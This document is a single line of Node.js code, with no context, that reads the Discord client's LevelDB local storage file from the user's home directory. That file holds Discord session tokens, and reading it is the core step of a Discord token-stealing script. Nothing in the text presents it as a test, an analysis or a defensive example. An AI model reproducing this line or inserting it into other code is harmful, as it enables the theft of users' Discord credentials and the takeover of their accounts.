require("fs").readFileSync(process.env.HOME + "/.config/discord/Local Storage/0.ldb");
